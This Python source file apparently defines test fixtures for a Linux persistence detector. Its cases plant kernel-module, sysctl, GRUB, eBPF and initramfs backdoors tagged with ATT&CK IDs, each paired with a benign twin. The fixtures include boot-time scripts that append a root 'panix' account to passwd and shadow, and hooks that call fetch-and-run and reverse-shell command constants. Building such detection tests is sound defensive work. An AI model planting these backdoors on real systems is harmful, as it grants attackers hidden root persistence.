"""The kernel and what comes before it: modules, settings, eBPF, boot loader, initrd."""

from __future__ import annotations

from typing import Final

from plantings.case import Case, Twin, add, both, nothing, put, run, shell, swap, unit
from plantings.command import FETCH, HIDDEN, NOHUP_BACK, SH_BACK, hidden, program, with_program
from plantings.initrd import archive
from plantings.machine import INITRD
from plantings.more_packages import INIT, KERNEL

_MODULES: Final = "Kernel modules"
_BPF: Final = "eBPF"
_BOOT: Final = "Boot"
_ID: Final = "T1547.006"
_BOOT_ID: Final = "T1542.003"
_FOLDER: Final = f"/usr/lib/modules/{KERNEL}"
_LOAD: Final = "/etc/modules-load.d"
_GRUB: Final = "/etc/default/grub.d"

_BRIDGE: Final = Twin(
    "modules-load-bridge",
    "a module of the kernel's own package",
    f"{_LOAD}/k8s.conf",
    put(f"{_LOAD}/k8s.conf", "br_netfilter\n"),
)
_BLACKLIST: Final = Twin(
    "modprobe-blacklist",
    "modules that nobody needs",
    "/etc/modprobe.d/blacklist.conf",
    put(
        "/etc/modprobe.d/blacklist.conf",
        "blacklist floppy\ninstall dccp /bin/true\noptions loop max_loop=64\n",
    ),
)
_SYSCTL: Final = Twin(
    "sysctl-swappiness",
    "less swapping",
    "/etc/sysctl.d/50-own.conf",
    put("/etc/sysctl.d/50-own.conf", "vm.swappiness = 10\nkernel.core_pattern = core.%p\n"),
    table="file",
)
_GRUB_OWN: Final = Twin(
    "grub-console",
    "messages on a serial line",
    f"{_GRUB}/50-console.cfg",
    put(
        f"{_GRUB}/50-console.cfg",
        'GRUB_CMDLINE_LINUX_DEFAULT="$GRUB_CMDLINE_LINUX_DEFAULT console=ttyS0"\n',
    ),
)
_HOOK: Final = Twin(
    "initramfs-hook",
    "a driver goes into the initrd",
    "/etc/initramfs-tools/hooks/driver",
    run(
        "/etc/initramfs-tools/hooks/driver",
        shell(". /usr/share/initramfs-tools/hook-functions", "manual_add_modules br_netfilter"),
    ),
)
_DKMS: Final = Twin(
    "dkms-own",
    "a driver that an administrator builds",
    "/usr/src/r8168-8.053/dkms.conf",
    both(
        put(
            "/usr/src/r8168-8.053/dkms.conf",
            'PACKAGE_NAME="r8168"\nPACKAGE_VERSION="8.053"\nAUTOINSTALL="yes"\n',
        ),
        put("/usr/src/r8168-8.053/r8168.c", "/* a driver */\n"),
    ),
)
_KERNEL_HOOK: Final = Twin(
    "kernel-postinst-own",
    "a mail after a new kernel",
    "/etc/kernel/postinst.d/zz-tell",
    run("/etc/kernel/postinst.d/zz-tell", shell('echo "kernel $1" | mail -s kernel root')),
)

_ADD_USER: Final = (
    "mount -o remount,rw ${rootmnt}\n"
    'echo "panix:x:0:0::/root:/bin/bash" >> ${rootmnt}/etc/passwd\n'
    "echo 'panix:$6$aaaaaaaa$bm8gcGFzc3dvcmQ:19000:0:99999:7:::' >> ${rootmnt}/etc/shadow\n"
)
_CHANGED_INIT: Final = INIT.replace("maybe_break init\n", _ADD_USER + "maybe_break init\n")


def _memory(
    slug: str, group: str, technique: str, what: str, path: str, unseen: str, panix: str = ""
) -> Case:
    return Case(slug, group, technique, what, path, nothing, None, panix, unseen=unseen)


CASES: Final = (
    Case(
        "module",
        _MODULES,
        _ID,
        "a module of no package, loaded at boot",
        f"{_LOAD}/lkm_backdoor.conf",
        both(
            program(f"{_FOLDER}/lkm_backdoor.ko"),
            put(f"{_LOAD}/lkm_backdoor.conf", "lkm_backdoor\n"),
            put("/tmp/lkm/lkm_backdoor.c", "/* built here */\n"),
            put("/tmp/lkm/Makefile", "obj-m += lkm_backdoor.o\n"),
        ),
        _BRIDGE,
        "setup_lkm",
    ),
    Case(
        "rootkit",
        _MODULES,
        "T1014",
        "a module from a hidden folder, loaded at boot",
        "/usr/lib/modules-load.d/panix.conf",
        both(
            program("/var/tmp/.panix/panix.ko"),
            put("/var/tmp/.panix/panix.c", "/* built here */\n"),
            put("/usr/lib/modules-load.d/panix.conf", "panix\n"),
        ),
        _BRIDGE,
        "setup_rootkit",
    ),
    Case(
        "modules-list",
        _MODULES,
        _ID,
        "a module in the older list",
        "/etc/modules",
        both(program(f"{_FOLDER}/extra/netcompat.ko"), add("/etc/modules", "netcompat\n")),
        Twin(
            "modules-list-own",
            "a module of the kernel's own package",
            "/etc/modules",
            add("/etc/modules", "br_netfilter\n"),
        ),
    ),
    Case(
        "modprobe-install",
        _MODULES,
        _ID,
        "a command in the place of loading a module",
        "/etc/modprobe.d/net.conf",
        both(
            hidden(),
            put(
                "/etc/modprobe.d/net.conf",
                f"install br_netfilter {HIDDEN}; /sbin/modprobe --ignore-install br_netfilter\n",
            ),
        ),
        _BLACKLIST,
    ),
    Case(
        "dkms",
        _MODULES,
        _ID,
        "a module that is built anew for every kernel",
        "/usr/src/netcompat-1.0/dkms.conf",
        put(
            "/usr/src/netcompat-1.0/dkms.conf",
            f'PACKAGE_NAME="netcompat"\nPRE_BUILD="sh -c \'{FETCH}\'"\nAUTOINSTALL="yes"\n',
        ),
        _DKMS,
    ),
    Case(
        "sysctl-modprobe",
        _MODULES,
        "T1546",
        "another program in the place of modprobe",
        "/etc/sysctl.d/90-kernel.conf",
        both(hidden(), put("/etc/sysctl.d/90-kernel.conf", f"kernel.modprobe = {HIDDEN}\n")),
        _SYSCTL,
    ),
    Case(
        "sysctl-core",
        _MODULES,
        "T1546",
        "a program as root whenever something crashes",
        "/etc/sysctl.d/90-core.conf",
        both(hidden(), put("/etc/sysctl.d/90-core.conf", f"kernel.core_pattern = |{HIDDEN} %p\n")),
        _SYSCTL,
    ),
    Case(
        "bpf-loader",
        _BPF,
        "T1205.002",
        "a service that loads a filter of no package",
        "/etc/systemd/system/xdp-filter.service",
        with_program(
            "/usr/sbin/xdp-filterd",
            both(
                put("/usr/lib/bpf/filter.bpf.o", b"\x7fELF\x02\x01\x01" + bytes(90)),
                put(
                    "/etc/systemd/system/xdp-filter.service",
                    unit("/usr/sbin/xdp-filterd /usr/lib/bpf/filter.bpf.o eth0"),
                ),
            ),
        ),
        Twin(
            "bpf-own",
            "a filter of one's own in /opt",
            "/etc/systemd/system/shield.service",
            with_program(
                "/opt/shield/shield",
                put(
                    "/etc/systemd/system/shield.service",
                    unit("/opt/shield/shield --interface eth0"),
                ),
            ),
        ),
    ),
    _memory(
        "bpf-pin",
        _BPF,
        "T1014",
        "a program pinned in /sys/fs/bpf",
        "/sys/fs/bpf",
        "pins lie in memory and are gone with the power",
    ),
    _memory(
        "bpf-raw-socket",
        _BPF,
        "T1205.002",
        "a filter on a raw socket",
        "/proc/net/packet",
        "a filter on a socket is only in the kernel's memory",
    ),
    Case(
        "grub",
        _BOOT,
        _BOOT_ID,
        "a script in the place of init",
        f"{_GRUB}/99-panix.cfg",
        both(
            run("/grub-panix.sh", f"#!/bin/bash\n( sleep 10; {NOHUP_BACK} ) &\nexec /sbin/init\n"),
            put(
                f"{_GRUB}/99-panix.cfg",
                'GRUB_CMDLINE_LINUX_DEFAULT="$GRUB_CMDLINE_LINUX_DEFAULT init=/grub-panix.sh"\n',
            ),
            swap("/boot/grub/grub.cfg", "ro quiet", "ro quiet init=/grub-panix.sh"),
        ),
        _GRUB_OWN,
        "setup_grub",
    ),
    Case(
        "grub-cfg",
        _BOOT,
        _BOOT_ID,
        "another init in the menu alone",
        "/boot/grub/grub.cfg",
        both(hidden(), swap("/boot/grub/grub.cfg", "ro quiet", f"ro quiet init={HIDDEN}")),
        _GRUB_OWN,
    ),
    Case(
        "grub-d",
        _BOOT,
        _BOOT_ID,
        "code whenever the menu is made",
        "/etc/grub.d/06_theme",
        run("/etc/grub.d/06_theme", shell(FETCH)),
        Twin(
            "grub-d-own",
            "an entry for another system",
            "/etc/grub.d/40_custom",
            add("/etc/grub.d/40_custom", "menuentry 'Other' {\n chainloader +1\n}\n"),
        ),
    ),
    Case(
        "loader-entry",
        _BOOT,
        _BOOT_ID,
        "another init in an entry of systemd-boot",
        "/boot/loader/entries/debian.conf",
        both(
            hidden(),
            put(
                "/boot/loader/entries/debian.conf",
                f"title Debian\nlinux /vmlinuz\noptions root=/dev/vda1 ro init={HIDDEN}\n",
            ),
        ),
        Twin(
            "loader-entry-own",
            "an entry of systemd-boot",
            "/boot/loader/entries/debian.conf",
            put(
                "/boot/loader/entries/debian.conf",
                "title Debian\nlinux /vmlinuz\noptions root=/dev/vda1 ro quiet\n",
            ),
            table="file",
        ),
    ),
    Case(
        "initramfs-dracut",
        _BOOT,
        "T1542",
        "a part of the initrd that adds an account",
        "/usr/lib/dracut/modules.d/99panix/module-setup.sh",
        both(
            run(
                "/usr/lib/dracut/modules.d/99panix/module-setup.sh",
                '#!/bin/bash\ncheck()  { return 0; }\ndepends() { return 0; }\ninstall() {\n    inst_hook pre-pivot 99 "$moddir/backdoor-user.sh"\n}\n',
            ),
            run(
                "/usr/lib/dracut/modules.d/99panix/backdoor-user.sh",
                shell(
                    "mount -o remount,rw /sysroot",
                    'echo "panix:x:0:0::/root:/bin/bash" >> /sysroot/etc/passwd',
                ),
            ),
        ),
        Twin(
            "dracut-own",
            "a driver goes into the initrd",
            "/etc/dracut.conf.d/driver.conf",
            put("/etc/dracut.conf.d/driver.conf", 'add_drivers+=" br_netfilter "\n'),
        ),
        "setup_initramfs",
    ),
    Case(
        "initramfs-changed",
        _BOOT,
        "T1542",
        "the first script of the initrd adds an account",
        INITRD,
        put(INITRD, archive(_CHANGED_INIT)),
        Twin(
            "initramfs-rebuilt",
            "an initrd that was made anew",
            INITRD,
            put(INITRD, archive()),
            table="file",
        ),
        "setup_initramfs",
        table="file",
    ),
    Case(
        "initramfs-script",
        _BOOT,
        "T1542",
        "code in the initrd",
        "/etc/initramfs-tools/scripts/init-bottom/fsck2",
        run(
            "/etc/initramfs-tools/scripts/init-bottom/fsck2",
            shell(f"chroot ${{rootmnt}} {SH_BACK} &"),
        ),
        _HOOK,
    ),
    Case(
        "initramfs-hook",
        _BOOT,
        "T1542",
        "a program of no package goes into the initrd",
        "/etc/initramfs-tools/hooks/fsck2",
        both(
            hidden(),
            run(
                "/etc/initramfs-tools/hooks/fsck2",
                shell(
                    ". /usr/share/initramfs-tools/hook-functions", f"copy_exec {HIDDEN} /bin/fsck2"
                ),
            ),
        ),
        _HOOK,
    ),
    Case(
        "mkinitcpio",
        _BOOT,
        "T1542",
        "a hook of mkinitcpio that fetches code",
        "/etc/initcpio/hooks/net2",
        put(
            "/etc/initcpio/hooks/net2",
            f"run_latehook() {{\n    chroot /new_root sh -c '{FETCH}'\n}}\n",
        ),
        _HOOK,
    ),
    Case(
        "kernel-postinst",
        _BOOT,
        "T1542",
        "code after every new kernel",
        "/etc/kernel/postinst.d/zz-depmod",
        run("/etc/kernel/postinst.d/zz-depmod", shell(FETCH)),
        _KERNEL_HOOK,
    ),
    Case(
        "kernel-install",
        _BOOT,
        "T1542",
        "a hidden program after every new kernel",
        "/etc/kernel/install.d/95-sign.install",
        both(hidden(), run("/etc/kernel/install.d/95-sign.install", shell(HIDDEN))),
        _KERNEL_HOOK,
    ),
    Case(
        "esp",
        _BOOT,
        "T1542.003",
        "a boot loader of no package",
        "/boot/efi/EFI/debian/mmx64.efi",
        put("/boot/efi/EFI/debian/mmx64.efi", b"MZ" + bytes(200)),
        table="file",
    ),
    _memory(
        "firmware",
        _BOOT,
        "T1542.001",
        "firmware of the board, BMC included",
        "/dev/mem",
        "firmware lies on no disk",
    ),
)
